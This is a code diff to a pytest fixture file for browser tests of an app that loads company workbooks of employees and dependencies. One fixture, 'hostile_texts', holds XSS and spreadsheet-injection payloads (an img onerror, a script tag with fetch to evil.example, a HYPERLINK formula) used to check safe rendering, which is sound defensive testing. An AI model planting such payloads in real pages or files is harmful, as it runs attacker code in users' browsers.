@@ -1,5 +1,6 @@
 """A running app and a real browser for the tests of the pages."""
 
+import io
 import os
 import shutil
 import socket
@@ -13,6 +14,7 @@ from time import monotonic, sleep
 from urllib.parse import urlsplit
 
 import pytest
+from openpyxl import Workbook
 from playwright.sync_api import Browser, Page, Playwright, sync_playwright
 
 FLAGS = [
@@ -143,3 +145,88 @@ def watch(browser: Browser) -> Iterator[Callable[..., Watched]]:
     yield open_page
     for context in contexts:
         context.close()
+
+
+def _workbook(sheets: dict[str, list[dict[str, object]]]) -> bytes:
+    book = Workbook()
+    book.remove(book.active)
+    for title, rows in sheets.items():
+        sheet = book.create_sheet(title)
+        sheet.append(list(rows[0]))
+        for row in rows:
+            sheet.append(list(row.values()))
+            for cell in sheet[sheet.max_row]:
+                if isinstance(cell.value, str):
+                    cell.data_type = "s"
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def _company(ana: str, price_list: str, quote: str) -> dict[str, list[dict[str, object]]]:
+    people = [
+        ("E1", ana, "Product data"),
+        ("E2", "Ben Okafor", "Order desk"),
+        ("E3", "Cleo Maas", ""),
+    ]
+    links = [
+        ("E1", "E2", price_list, "customer", "valid prices", None, 8, 20, 9.0),
+        ("E2", "M1", quote, "both", "a price to decide on", "right and complete", 16, 40, 1.0),
+        ("E1", "E3", "margin report", "supplier", None, None, None, 2, 1.0),
+    ]
+    moments = [("M1", "A quote", "inquiry", 100, "E2"), ("M2", "The bill", "billing", 50, None)]
+    return {
+        "Employees": [
+            {"Employee ID": id, "Name": name, "Team": team or None, "Hours per month": 120}
+            for id, name, team in people
+        ],
+        "Dependencies": [dict(zip(LINK_HEADINGS, row, strict=True)) for row in links],
+        "Moments of truth": [dict(zip(MOMENT_HEADINGS, row, strict=True)) for row in moments],
+    }
+
+
+LINK_HEADINGS = (
+    "Supplier",
+    "Customer",
+    "Deliverable",
+    "Stated by",
+    "Need",
+    "Standard",
+    "Turnaround",
+    "Volume per month",
+    "Hours each",
+)
+MOMENT_HEADINGS = ("Moment ID", "Name", "Process", "Contacts per month", "Owner")
+
+
+@pytest.fixture(scope="session")
+def company() -> bytes:
+    """A workbook: Ana -> Ben -> quote (M1), Ana -> Cleo; nobody supplies the bill (M2).
+
+    Ana promises more hours than she has; Cleo has stated nothing and has no team.
+    """
+    return _workbook(_company("Ana Ruiz", "price list", "quote"))
+
+
+@pytest.fixture(scope="session")
+def hostile_texts() -> tuple[str, str, str]:
+    """Cells that would fetch, run or fake something where they were rendered as markdown."""
+    return (
+        "![a](http://evil.example/a.png) <img src=x onerror=alert(1)> Ana",
+        "[click](http://evil.example) :material/bug_report: :red[*list*] $x^2$ https://evil.example",
+        "=HYPERLINK(\"http://evil.example\") </script><script>fetch('//evil.example')</script>",
+    )
+
+
+@pytest.fixture(scope="session")
+def hostile_company(hostile_texts: tuple[str, str, str]) -> bytes:
+    """The same company with hostile texts for a name, a deliverable of each link."""
+    return _workbook(_company(*hostile_texts))
+
+
+@pytest.fixture(scope="session")
+def spoilt_company() -> bytes:
+    """The same company with a link to an employee who does not exist."""
+    sheets = _company("Ana Ruiz", "price list", "quote")
+    sheets["Dependencies"][2]["Customer"] = "E99"
+    return _workbook(sheets)
